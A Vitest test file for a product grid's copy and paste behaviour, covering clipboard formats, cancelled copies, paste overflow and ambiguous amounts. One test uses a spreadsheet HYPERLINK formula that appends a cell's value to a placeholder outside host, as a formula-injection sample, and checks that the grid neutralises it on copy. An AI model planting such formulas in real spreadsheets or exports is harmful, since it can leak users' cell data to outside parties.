import { cleanup, waitFor } from '@testing-library/react'
import { afterEach, beforeEach, expect, test, vi } from 'vitest'
import type { Product } from '#lib/core/catalog/product/product.ts'
import { buildRowProduct, openGrid } from './open-grid.tsx'

vi.mock('#lib/extension/rpc/client/call.ts', () => import('#tests/components/fake-call.ts'))

type Parts = Readonly<Record<string, Promise<Blob>>>

class FakeItem {
  readonly parts: Parts
  constructor(parts: Parts) {
    this.parts = parts
  }
}

const clipboard = {
  texts: new Map<string, string>(),
  async write([item]: readonly FakeItem[]): Promise<void> {
    // As in a browser, one part that fails leaves the clipboard as it was.
    const parts = Object.entries(item?.parts ?? {})
    const blobs = await Promise.all(parts.map(([, blob]) => blob))
    for (const [at, [type]] of parts.entries()) {
      clipboard.texts.set(type, (await blobs[at]?.text()) ?? '')
    }
  },
}

beforeEach(() => {
  vi.stubGlobal('ClipboardItem', FakeItem)
  Object.defineProperty(navigator, 'clipboard', { value: clipboard, configurable: true })
})
afterEach(() => {
  cleanup()
  clipboard.texts.clear()
  Reflect.deleteProperty(navigator, 'clipboard')
  vi.unstubAllGlobals()
})

const formula = '=HYPERLINK("https://elsewhere.example/"&A1)'

test('a formula is copied as text that no spreadsheet runs, and pasted unchanged', async () => {
  const products = [buildRowProduct(0, { name: formula }), buildRowProduct(1)]
  const grid = await openGrid(Promise.resolve(products), [{ name: formula }, {}])
  await grid.copy(0, 0)
  expect(clipboard.texts.get('text/plain')).toBe(`'${formula}`)
  expect(clipboard.texts.get('text/html')).toContain(`<td>'=HYPERLINK(`)
  await grid.paste(1, `'${formula}`)
  expect(grid.entered()).toEqual([[products[1]?.id, { name: formula }]])
})

test('numbers are copied as numbers', async () => {
  const grid = await openGrid(Promise.resolve([]), [{ quantity: -3 }, {}])
  await grid.copy(0, 3)
  expect(clipboard.texts.get('text/plain')).toBe('-3')
})

test('stopping a copy leaves the clipboard unchanged', async () => {
  const { promise, resolve } = Promise.withResolvers<readonly Product[]>()
  const grid = await openGrid(promise)
  const copied = grid.copy(0, 1)
  expect(grid.stop()).toBe(true)
  await copied
  expect(grid.notice()).toBe('Stopped. Nothing was changed.')
  resolve([buildRowProduct(0, { brand: 'Larkspur' })])
  await new Promise((done) => setTimeout(done, 20))
  expect(clipboard.texts.size).toBe(0)
})

test('a paste reports cells beyond the last row or column', async () => {
  const products = [buildRowProduct(0), buildRowProduct(1)]
  const grid = await openGrid(Promise.resolve(products))
  await grid.pasteBlock(1, [['One'], ['Two'], ['Three']])
  expect(grid.entered()).toEqual([[products[1]?.id, { name: 'One' }]])
  expect(grid.notice()).toBe('Not pasted: 2 rows beyond the end of the list.')
  await grid.pasteBlock(1, [['Name', 'Brand', '5', '2', 'Lost']])
  expect(grid.notice()).toContain('Not pasted: 1 column beyond the end of the list.')
  await grid.pasteBlock(0, [['One'], ['Two']])
  expect(grid.notice()).toBeUndefined()
})

test('an ambiguous pasted amount waits for an answer and changes nothing', async () => {
  const grid = await openGrid(Promise.resolve([buildRowProduct(0), buildRowProduct(1)]))
  await grid.pasteBlock(0, [['Mug', '', '1.234']])
  expect([grid.isUnclear(), grid.entered()]).toEqual([true, []])
  await grid.answer(',')
  expect(grid.isUnclear()).toBe(false)
  await waitFor(() => expect(JSON.stringify(grid.entered())).toContain('"listPrice":"1234"'))
})
